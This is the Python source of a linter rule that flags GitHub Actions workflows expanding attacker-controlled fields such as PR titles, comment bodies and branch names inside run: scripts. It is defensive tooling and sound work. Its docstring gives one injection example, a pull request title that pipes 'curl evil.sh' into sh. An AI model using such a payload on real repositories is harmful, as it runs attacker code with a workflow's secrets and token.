"""Attacker-controlled event data expanded inside a `run:` script

## What it flags
A `${{ ... }}` expression inside a `run:` script (or an `actions/github-script`
`script:`) that reads a field anyone can set from outside: issue, pull request and
discussion titles and bodies, comment and review bodies, branch names (`github.head_ref`,
`pull_request.head.ref`/`label`, `workflow_run.head_branch`), commit messages and author
names, wiki page names. The finding sits on the script line holding the expression.

A value passed through `env:` and expanded again as `${{ env.X }}` is the same
injection (the expression is substituted into the script text); so are
`github.event.workflow.path` and `workflow_run.path`/`display_title` (a fork chooses its
workflow file's name and its run's title).

Not flagged: the same value passed through `env:` and used as `"$VAR"`; trusted fields
such as `github.sha`, `github.event.pull_request.number` or `github.repository`.

## Why it matters
Expressions are substituted into the script text before the shell runs it. A pull
request titled `"; curl evil.sh | sh; #` runs that command with the job's secrets and
token: in a deploy workflow, your cloud credentials and registry push rights.

## How to fix
Pass the value through an environment variable and quote it in the script.

## Example
```yaml
- run: echo "Deploying ${{ github.event.pull_request.title }}"
```

```yaml
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "Deploying $TITLE"
```

## References
- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from mlaudit.finding import Finding
from mlaudit.models.workflow import Workflow, expressions
from mlaudit.rule import Rule, RuleContext
from mlaudit.severity import Category, Severity
from mlaudit.span import Span

RULE = Rule(
    id="MLA406",
    name="workflow-script-injection",
    title="Attacker-controlled event data expanded inside a `run:` script",
    severity=Severity.HIGH,
    category=Category.CICD,
    target=Workflow,
    tags=("github-actions", "injection"),
    docs=__doc__ or "",
)

_ANY = r"(?:\[\d+\]|\[\*\]|\.\*)"  # commits[0], commits.*, commits[*]
_AUTHOR = r"(?:message|author\.(?:email|name))"
DANGEROUS = re.compile(
    r"\bgithub\.(?:head_ref\b|event\.(?:"
    r"(?:issue|pull_request|discussion)\.(?:title|body)"
    r"|(?:comment|review|review_comment)\.body"
    r"|pull_request\.head\.(?:ref|label|repo\.default_branch)"
    rf"|pages{_ANY}\.page_name"
    rf"|(?:commits{_ANY}|head_commit)\.{_AUTHOR}"
    rf"|workflow_run\.(?:head_branch|display_title|path|head_commit\.{_AUTHOR}"
    rf"|pull_requests{_ANY}\.head\.ref)"
    r"|workflow\.path"
    r")\b)"
)
_ENV_REF = re.compile(r"\benv\.([A-Za-z_][\w-]*)")


def _dangerous(text: str, env: dict[str, str] | None = None) -> str | None:
    """The attacker-controlled field an expression of `text` expands, also through an
    `env:` value re-expanded as `${{ env.X }}` (which substitutes it into the script text
    just the same)."""
    for _, _, expression in expressions(text):  # linear: no `.*?` per unclosed `${{`
        match = DANGEROUS.search(expression)
        if match:
            return match.group(0)
        for name in _ENV_REF.findall(expression):
            inner = _dangerous((env or {}).get(name, ""))
            if inner:
                return f"{inner} (through env.{name})"
    return None


@RULE.check
def check(workflow: Workflow, ctx: RuleContext) -> Iterator[Finding]:
    base = {v.name: v.value for v in workflow.env}
    for job in workflow.jobs:
        job_env = {**base, **{v.name: v.value for v in job.env}}
        for step in job.steps:
            env = {**job_env, **{v.name: v.value for v in step.env}}
            if step.run is not None:
                for line, text in step.run.lines:
                    field = _dangerous(text, env)
                    if field:
                        yield ctx.finding(
                            f"`run:` in job {job.id} expands attacker-controlled {field} "
                            "into the shell script",
                            Span(workflow.path, line), key=f"{job.id}:{field}:{text}")
            uses = step.uses
            script = step.input("script")
            if uses is not None and uses.is_action("actions/github-script") and script:
                field = _dangerous(script.value, env)
                if field:
                    yield ctx.finding(
                        f"github-script in job {job.id} expands attacker-controlled {field} "
                        "into the JavaScript source", script.span, key=f"{job.id}:{field}:js")
